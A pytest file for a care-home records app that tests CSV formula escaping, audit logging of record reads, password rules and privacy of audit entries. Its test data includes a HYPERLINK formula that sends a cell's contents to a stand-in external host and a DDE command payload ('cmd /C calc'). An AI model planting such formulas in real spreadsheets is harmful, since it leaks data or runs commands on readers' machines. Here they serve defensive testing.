"""Hardening from the outside security test: formula cells in every CSV, every read of a record
audited, password rules in one place, no empty audit entries."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import uuid
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from carelog.accounts.passwords import password_problem
from carelog.audit import chain
from carelog.audit.models import AuditEntry
from carelog.extensions import db
from carelog.web.spreadsheet import FORMULA_STARTS, TEXT_MARK, original_cell, safe_cell
from tests.helpers.commands import run_flask
from tests.helpers.pages import text
from tests.helpers.records import (
    audit_entries,
    local_time,
    nurse_ward,
    plain_residents,
    record_given,
    today,
    user_id,
    ward_id,
)

FORMULAS = ("=2+3", '=HYPERLINK("http://x.example/?q="&B2,"open")', "@SUM(1;2)", "+1", "-1+1")


# ----- CSV formulas -----------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*FORMULAS, "'quoted", "\tTab", "\rCR", "plain", "", "Zoë"])
def test_safe_cell_marks_formulas_and_can_be_undone(value):
    """Formula-like text gets a leading apostrophe; original_cell gives back exactly the value."""
    marked = safe_cell(value)
    risky = value.startswith((*FORMULA_STARTS, TEXT_MARK))
    assert marked == (TEXT_MARK + value if risky else value)
    assert original_cell(marked) == value
    assert safe_cell(7) == 7 and safe_cell(None) is None


def csv_rows(response) -> list[list[str]]:
    """A CSV download parsed as a spreadsheet would read it (BOM dropped)."""
    assert response.status_code == 200
    body = response.get_data().decode("utf-8").removeprefix("\ufeff")
    response.close()
    return list(csv.reader(io.StringIO(body)))


def through_libreoffice(rows: list[list[str]]) -> list[list[str]]:
    """Open a CSV in LibreOffice Calc (headless) and save it again: what the sheet shows."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is needed for this check: run `make system-packages`"
    work = Path(f"/tmp/carelog-formulas-{uuid.uuid4().hex[:8]}")
    (work / "out").mkdir(parents=True)
    try:
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        (work / "in.csv").write_text(buffer.getvalue(), encoding="utf-8")
        subprocess.run(
            [soffice, f"-env:UserInstallation=file://{work}/profile", "--headless",
             "--infilter=CSV:44,34,76,1",
             "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
             "--outdir", str(work / "out"), str(work / "in.csv")],
            check=True, capture_output=True, timeout=120,
        )  # fmt: skip
        saved = (work / "out" / "in.csv").read_text(encoding="utf-8")
    finally:
        shutil.rmtree(work, ignore_errors=True)
    return list(csv.reader(io.StringIO(saved)))


def test_the_sessions_csv_shows_formula_text_as_text(app, signed_in):
    """A note '=2+3' and an action '@SUM(1;2)' are marked as text; LibreOffice does not run them."""
    resident = plain_residents(app, nurse_ward(app))[0]
    when = local_time(app, today(app) - timedelta(days=1))
    record_given(
        app,
        resident.id,
        when,
        note="=2+3",
        observations="redness",
        observation_action="@SUM(1;2)",
        observation_told="-1+1",
    )
    rows = csv_rows(signed_in("manager").get(f"/reports/sessions.csv?resident_id={resident.id}"))
    header, row = rows[0], rows[-1]
    cells = dict(zip(header, row, strict=True))
    assert cells["note"] == "'=2+3"
    assert cells["observation_action"] == "'@SUM(1;2)"
    assert cells["observation_told"] == "'-1+1"
    assert original_cell(cells["note"]) == "=2+3"
    shown = dict(zip(header, through_libreoffice(rows)[-1], strict=True))
    assert shown["note"] != "5" and "=2+3" in shown["note"]
    assert shown["observation_told"] != "0"


def test_the_trail_csv_marks_formulas_and_still_verifies_once_unmarked(app, client, signed_in):
    """An anonymous sign-in attempt whose User-Agent is a formula lands in the trail CSV as text;
    removing one leading apostrophe from each cell gives back a chain that verifies."""
    attack = "=cmd|' /C calc'!A0"
    token = client.csrf_token("/auth/sign-in")
    answer = client.post(
        "/auth/sign-in",
        data={"username": "nobody", "password": "wrong", "csrf_token": token},
        headers={"User-Agent": attack},
    )
    assert answer.status_code == 200 and "Sign-in failed" in text(answer)
    rows = csv_rows(signed_in("auditor").get("/audit/export.csv"))
    header, body = rows[0], rows[1:]
    agents = [dict(zip(header, r, strict=True))["user_agent"] for r in body]
    assert TEXT_MARK + attack in agents and attack not in agents
    integers = {"id", "actor_id", "resident_id"}
    parsed = [
        {
            name: int(value) if name in integers and value else original_cell(value) or None
            for name, value in zip(header, row, strict=True)
        }
        for row in body
    ]
    result = chain.verify_rows(parsed)
    assert result.ok, result.problem
    marked = [
        {name: (value if name in integers else safe_cell(value)) for name, value in r.items()}
        for r in parsed
    ]
    assert not chain.verify_rows(marked).ok, "without unmarking, the formula row would not verify"


# ----- every read of a record is audited ----------------------------------------------------------

READERS = ("nurse", "manager", "auditor")
# A resident's photo is part of the pages that show it: the resident's page and the session form
# record the read; the board shows everyone's, as it shows everyone's name, and records none.
PARTS_OF_PAGES = {"photos.show"}


def routes_reading_a_record(app) -> list[tuple[str, str]]:
    """(endpoint, argument) for every GET route that takes a resident or a session id."""
    found = []
    for rule in app.url_map.iter_rules():
        if "GET" not in (rule.methods or ()):
            continue
        if rule.endpoint in PARTS_OF_PAGES:
            continue
        for argument in ("resident_id", "session_id"):
            if argument in rule.arguments:
                found.append((rule.endpoint, argument))
    return sorted(found)


def test_every_page_showing_a_record_writes_one_read_entry(app, signed_in):
    """Walk every GET route that takes a resident or a session (and the auditor's trail filtered
    by resident): each writes exactly one resident.view entry for that resident."""
    from flask import url_for

    from carelog.web.policy import allowed_roles

    resident = plain_residents(app, nurse_ward(app))[0]
    session_id = record_given(app, resident.id, local_time(app, today(app), at=_now_hour(app)))
    routes = routes_reading_a_record(app)
    assert len(routes) >= 8, routes
    clients = {name: signed_in(name) for name in READERS}
    roles_of = {"nurse": "nurse", "manager": "care_manager", "auditor": "auditor"}
    checked = []
    for endpoint, argument in routes:
        with app.test_request_context():
            policy = allowed_roles(endpoint)
            value = resident.id if argument == "resident_id" else session_id
            url = url_for(endpoint, **{argument: value})
        reader = next(name for name in READERS if roles_of[name] in (policy or ()))
        before = len(audit_entries(app, "resident.view"))
        response = clients[reader].get(url)
        assert response.status_code == 200, (endpoint, response.status_code)
        entries = audit_entries(app, "resident.view")
        assert len(entries) == before + 1, endpoint
        assert entries[-1].resident_id == resident.id, endpoint
        checked.append(endpoint)
    before = len(audit_entries(app, "resident.view"))
    assert clients["auditor"].get(f"/audit/?resident_id={resident.id}").status_code == 200
    assert len(audit_entries(app, "resident.view")) == before + 1
    assert {"residents.edit", "corrections.correct", "sessions.new"} <= set(checked)


def _now_hour(app):
    from datetime import datetime

    from carelog.local_time import home_zone

    with app.app_context():
        now = datetime.now(home_zone())
    return now.replace(minute=0, second=0, microsecond=0, tzinfo=None).time()


# ----- passwords ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("password", "words"),
    [
        ("            ", "only spaces"),
        ("short pass", "at least 12"),
        ("password1234", "commonly used"),
        ("qwertyuiop123", "commonly used"),
        ("niamh.byrne.x"[:-2], "at least 12"),
        ("Niamh.Byrne.Rowan", None),
    ],
)
def test_password_rules_refuse_in_words(password, words):
    """Length, spaces, the list of common passwords and the username, in one rule."""
    problem = password_problem(password, "niamh.byrne")
    assert (problem is None) if words is None else (problem and words in problem)
    assert password_problem("niamh.byrne.rowan", "niamh.byrne.rowan")  # the username itself
    assert password_problem("correct horse battery staple", "niamh.byrne") is None


def test_an_admin_cannot_set_a_password_of_spaces_or_a_common_one(app, signed_in):
    """The admin's form refuses both with the rule's words, and the password stays unchanged."""
    admin = signed_in("admin")
    nurse_id = user_id(app, "nurse")
    page = admin.get(f"/admin/users/{nurse_id}").get_data(as_text=True)
    assert "Password" in page
    for bad, words in (("               ", "only spaces"), ("password1234", "commonly used")):
        response = admin.submit(
            f"/admin/users/{nurse_id}",
            {
                "username": "nurse",
                "full_name": "Niamh Byrne",
                "role": "nurse",
                "ward_id": str(ward_id(app, "Rowan")),
                "password": bad,
            },
        )
        assert response.status_code == 200
        assert words in text(response)
        assert audit_entries(app, "user.password") == []
    assert signed_in("nurse")  # the old password still works


def test_the_command_line_refuses_a_common_password(database_url):
    """create-user says why, and creates nothing."""
    done = run_flask(
        database_url,
        "create-user", "second.admin", "--full-name", "Second Admin", "--role", "admin",
        "--password", "password1234",
    )  # fmt: skip
    assert done.returncode != 0
    assert "commonly used" in done.stderr


# ----- no empty audit entries --------------------------------------------------------------------


def test_renaming_a_ward_to_its_own_name_records_nothing(app, signed_in):
    """Saving a ward unchanged is no change: no audit entry says otherwise."""
    admin = signed_in("admin")
    rowan = ward_id(app, "Rowan")
    before = len(audit_entries(app, "ward.update"))
    response = admin.submit(f"/admin/wards/{rowan}", {"name": "Rowan"})
    assert response.status_code == 303
    assert len(audit_entries(app, "ward.update")) == before
    admin.submit(f"/admin/wards/{rowan}", {"name": "Rowan East"})
    assert len(audit_entries(app, "ward.update")) == before + 1
    with app.app_context():
        last = db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "ward.update")
        ).all()[-1]
        assert last.new == {"name": "Rowan East"}


# ----- corrections pass the timing checks of new sessions ---------------------------------------


def test_a_correction_cannot_move_a_session_outside_the_stay_or_into_the_future(app):
    """2020-01-01 for a resident admitted later, or tomorrow, is refused like a new session."""
    from datetime import datetime

    from carelog.accounts.models import User
    from carelog.care import amendments, rules
    from carelog.local_time import home_zone
    from carelog.residents.models import Resident
    from tests.helpers.records import actor

    resident = plain_residents(app, nurse_ward(app))[0]
    session_id = record_given(app, resident.id, local_time(app, today(app) - timedelta(days=1)))
    with app.app_context():
        admitted = db.session.get(Resident, resident.id).admitted_on
        manager = db.session.get(User, user_id(app, "manager"))
        zone = home_zone()
        too_early = datetime.combine(admitted - timedelta(days=400), datetime.min.time(), zone)
        tomorrow = datetime.now(zone) + timedelta(days=1)
        for moment, words in ((too_early, "before the resident was admitted"),
                              (tomorrow, "in the future")):  # fmt: skip
            with pytest.raises(rules.CareError, match=words):
                amendments.correct_session(
                    actor(app, "manager"), manager, session_id, str(uuid.uuid4()),
                    {"occurred_at": moment}, "moved in a test", 1,
                )  # fmt: skip
    assert audit_entries(app, "session.correction") == []


# ----- no clinical free text in the trail --------------------------------------------------------


def test_the_trail_holds_fingerprints_of_clinical_text_and_the_record_holds_the_words(app):
    """Allergies, precaution notes, consent notes, the decision maker, a departure reason, a
    session's note, correction and void reasons: none appears in any audit entry; each is in
    the clinical tables, and the trail holds its fingerprint."""
    import uuid as uuid_module
    from datetime import date

    from carelog.audit.free_text import fingerprint
    from carelog.care import amendments
    from carelog.care.models import CareSessionVersion
    from carelog.care.vocabulary import VersionKind
    from carelog.residents import records
    from carelog.residents.models import Consent, ResidentVersion
    from tests.helpers.records import actor

    words = {
        "allergies": "Secret-allergy walnut oil",
        "precaution_notes": "Secret-precaution fragile skin on the left wrist",
        "notes": "Secret-consent-note prefers mornings",
        "decision_maker": "Secret-maker Aoife Byrne",
        "update_reason": "Secret-update-reason GP review",
        "departure_reason": "Secret-departure moved to St Mary's",
        "note": "Secret-session-note enjoyed it",
        "correction_reason": "Secret-correction timer ran late",
        "void_reason": "Secret-void wrong resident",
    }
    manager = actor(app, "manager")
    with app.app_context():
        person = records.admit(
            manager,
            {"given_name": "Secret", "family_name": "Person", "room": "S1",
             "ward_id": nurse_ward(app), "date_of_birth": date(1940, 1, 1),
             "admitted_on": today(app) - timedelta(days=30),
             "allergies": words["allergies"]},
        )  # fmt: skip
        resident_id = person.id
        records.update(
            manager, resident_id, {"precaution_notes": words["precaution_notes"]},
            words["update_reason"],
        )  # fmt: skip
        records.record_consent(
            manager, resident_id,
            {"decided_by": "best_interests", "decision_maker": words["decision_maker"],
             "consent_given": True, "decided_on": today(app) - timedelta(days=30),
             "review_on": today(app) + timedelta(days=300), "scope_hands": "both",
             "notes": words["notes"]},
        )  # fmt: skip
    when = local_time(app, today(app) - timedelta(days=1))
    session_id = record_given(app, resident_id, when, note=words["note"])
    with app.app_context():
        amendments.add_version(
            manager, session_id, str(uuid_module.uuid4()), VersionKind.CORRECTION,
            {"duration_minutes": 12}, words["correction_reason"], 1,
        )  # fmt: skip
        amendments.add_version(
            manager, session_id, str(uuid_module.uuid4()), VersionKind.VOID, {},
            words["void_reason"], 2,
        )  # fmt: skip
        records.record_departure(manager, resident_id, today(app), words["departure_reason"])

    trail = "\n".join(
        f"{e.old_values} {e.new_values} {e.reason} {e.user_agent}" for e in audit_entries(app)
    )
    for name, words_typed in words.items():
        assert words_typed not in trail, f"{name} is in the audit trail in clear"
        if name != "note":  # a new session's entry holds the digest of its whole content
            assert fingerprint(words_typed) in trail, f"{name} left no fingerprint in the trail"
    with app.app_context():
        history = db.session.scalars(
            select(ResidentVersion).where(ResidentVersion.resident_id == resident_id)
        ).all()
        consent = db.session.scalar(select(Consent).where(Consent.resident_id == resident_id))
        versions = db.session.scalars(
            select(CareSessionVersion).where(CareSessionVersion.session_id == session_id)
        ).all()
    kept = " ".join(
        [str(v.values) + str(v.reason) for v in history]
        + [str(consent.notes), str(consent.decision_maker)]
        + [str(v.note) + str(v.reason) for v in versions]
    )
    for name, words_typed in words.items():
        assert words_typed in kept, f"{name} is kept nowhere in the clinical record"
    assert [v.action for v in history] == ["admit", "update", "depart"]
    with app.app_context():
        assert chain.verify(db.session).ok


def test_the_auditor_reads_the_words_in_the_record_history(app, signed_in):
    """The auditor's record page shows each change's words and reason from resident_version."""
    from carelog.residents import records
    from tests.helpers.records import actor

    person = plain_residents(app, nurse_ward(app))[0]
    with app.app_context():
        records.update(
            actor(app, "manager"), person.id, {"allergies": "Walnut oil (history test)"},
            "Reported by the daughter",
        )  # fmt: skip
    page = text(signed_in("auditor").get(f"/audit/residents/{person.id}"))
    assert "Walnut oil (history test)" in page
    assert "Reported by the daughter" in page
